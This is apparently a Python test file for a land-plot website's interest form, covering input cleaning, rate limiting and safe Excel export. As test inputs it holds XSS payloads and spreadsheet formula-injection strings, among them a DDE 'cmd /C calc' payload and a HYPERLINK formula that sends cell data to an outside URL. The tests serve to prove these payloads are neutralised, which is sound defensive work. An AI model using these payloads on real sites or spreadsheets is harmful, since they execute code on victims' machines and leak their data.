"""Expressions of interest: checked and cleaned, limited per session, address and server, and
exported to Excel as text only."""

from __future__ import annotations

import io
import threading

import openpyxl
import pandas as pd
import pytest

from landmap.access.submission_limit import SubmissionLimiter, Window
from landmap.export.interest_book import interest_workbook
from landmap.promotion.interest import (
    MAX_MESSAGE,
    InterestDraft,
    InterestLead,
    check_interest,
    interest_counts,
    plain_text,
)

PUBLIC = {"XQ-XZ-001": "A-01地块", "XQ-PG-002": "棚改腾空地"}


def codes(result) -> list[str]:
    assert not isinstance(result, InterestLead), result
    return [p.code for p in result]


def test_a_good_submission_is_cleaned_to_plain_text():
    lead = check_interest(
        InterestDraft(
            name="  王\u200b五 <script>alert(1)</script> ",
            organisation="<b>攀枝花</b>钢铁\x00公司",
            phone="+86 (812) 333-4444",
            email="Wang@Example.COM",
            message="第一行\r\n面积 <5 亩也可以\x07\n<img src=x onerror=alert(1)>",
            plot_ids=("XQ-XZ-001", "XQ-PG-002", "XQ-XZ-001"),
        ),
        PUBLIC,
    )
    assert isinstance(lead, InterestLead)
    assert lead.name == "王五 alert(1)"  # tags out, zero-width and control characters out
    assert lead.organisation == "攀枝花钢铁公司"
    assert lead.email == "wang@example.com"
    assert lead.message == "第一行\n面积 <5 亩也可以"  # a lone "<" is text, the tag went
    assert lead.plot_ids == ("XQ-XZ-001", "XQ-PG-002")


def test_an_email_alone_is_a_contact():
    assert isinstance(
        check_interest(InterestDraft(name="A", email="a@b.cn", plot_ids=("XQ-XZ-001",)), PUBLIC),
        InterestLead,
    )


@pytest.mark.parametrize(
    ("draft", "expected"),
    [
        (InterestDraft(name="张", plot_ids=("XQ-XZ-001",)), ["err_contact"]),
        (InterestDraft(phone="13800000000", plot_ids=("XQ-XZ-001",)), ["err_name"]),
        (InterestDraft(name="张", phone="call me", plot_ids=("XQ-XZ-001",)), ["err_phone"]),
        (InterestDraft(name="张", email="no-at-sign", plot_ids=("XQ-XZ-001",)), ["err_email"]),
        (InterestDraft(name="张", phone="13800000000"), ["err_no_plot"]),
        (
            InterestDraft(
                name="张",
                phone="13800000000",
                message="字" * (MAX_MESSAGE + 1),
                plot_ids=("XQ-XZ-001",),
            ),
            ["err_too_long"],
        ),
        (
            InterestDraft(name="名" * 51, phone="13800000000", plot_ids=("XQ-XZ-001",)),
            ["err_too_long"],
        ),
        (
            InterestDraft(name="张", phone="13800000000", plot_ids=("NO-SUCH",)),
            ["err_unknown_plot"],
        ),
    ],
    ids=[
        "no_contact",
        "no_name",
        "bad_phone",
        "bad_email",
        "no_plot",
        "long_message",
        "long_name",
        "unknown_plot",
    ],
)
def test_an_invalid_submission_says_what_is_wrong(draft, expected):
    assert codes(check_interest(draft, PUBLIC)) == expected


def test_an_internal_plot_cannot_be_asked_about():
    # The plot exists, but the public view does not show it: for the public it is not there.
    draft = InterestDraft(name="张", phone="13800000000", plot_ids=("XQ-XZ-001", "XQ-NB-009"))
    assert codes(check_interest(draft, PUBLIC)) == ["err_unknown_plot"]


def test_too_many_plots():
    many = {f"P-{i}": "" for i in range(12)}
    draft = InterestDraft(name="张", phone="13800000000", plot_ids=tuple(many))
    assert codes(check_interest(draft, many)) == ["err_too_many_plots"]


def test_plain_text_keeps_one_line_fields_on_one_line():
    assert plain_text("a\nb\r\nc\t d") == "a b c d"


def test_counts_per_plot():
    assert interest_counts([("A", "B"), ("A",), ("A", "A")]) == {"A": 3, "B": 1}


class FakeClock:
    def __init__(self) -> None:
        self.now = 1000.0

    def __call__(self) -> float:
        return self.now


def test_a_session_is_limited_then_let_through_again():
    clock = FakeClock()
    limiter = SubmissionLimiter(session=Window(3, 600), clock=clock)
    assert [limiter.try_acquire("s1", "10.0.0.1") for _ in range(3)] == [0, 0, 0]
    wait = limiter.try_acquire("s1", "10.0.0.1")
    assert wait == pytest.approx(600)
    assert limiter.try_acquire("s2", "10.0.0.2") == 0  # another visitor is not blocked
    clock.now += 601
    assert limiter.try_acquire("s1", "10.0.0.1") == 0


def test_fresh_sessions_from_one_address_are_limited():
    limiter = SubmissionLimiter(address=Window(10, 3600), clock=FakeClock())
    results = [limiter.try_acquire(f"session-{i}", "10.0.0.9") for i in range(11)]
    assert results[:10] == [0] * 10 and results[10] > 0
    assert limiter.try_acquire("other", "10.0.0.10") == 0


def test_the_whole_server_is_limited_whatever_the_sessions_and_addresses():
    limiter = SubmissionLimiter(server=Window(60, 3600), clock=FakeClock())
    results = [limiter.try_acquire(f"s{i}", f"10.1.{i // 250}.{i % 250}") for i in range(61)]
    assert results.count(0) == 60 and results[60] > 0


def test_a_flood_from_many_threads_gets_exactly_the_limit():
    limiter = SubmissionLimiter(session=Window(1000, 600), server=Window(25, 3600))
    accepted: list[float] = []
    lock = threading.Lock()

    def flood(n: int) -> None:
        for i in range(20):
            result = limiter.try_acquire(f"t{n}-{i}", None)
            with lock:
                accepted.append(result)

    threads = [threading.Thread(target=flood, args=(n,)) for n in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert accepted.count(0) == 25 and len(accepted) == 160


def test_the_excel_list_keeps_a_visitors_formula_as_text():
    leads = pd.DataFrame(
        [
            {
                "submitted_at": "2026-12-05T10:00:00+08:00",
                "name": '=HYPERLINK("http://x/?"&A1,"看这里")',
                "organisation": "+cmd|' /C calc'!A0",
                "phone": "-1+1",
                "email": "@SUM(1)",
                "message": "你好\n第二行",
                "plot_ids": ("XQ-XZ-001",),
            }
        ]
    )
    book = openpyxl.load_workbook(io.BytesIO(interest_workbook(leads, PUBLIC, "zh")))
    sheet = book.active
    row = list(next(sheet.iter_rows(min_row=2, max_row=2)))
    assert row[1].value.startswith("=HYPERLINK")
    assert all(c.data_type == "s" for c in row)  # stored as text, never evaluated
    assert row[-1].value == "A-01地块（XQ-XZ-001）"
    assert sheet["A1"].value == "提交时间"
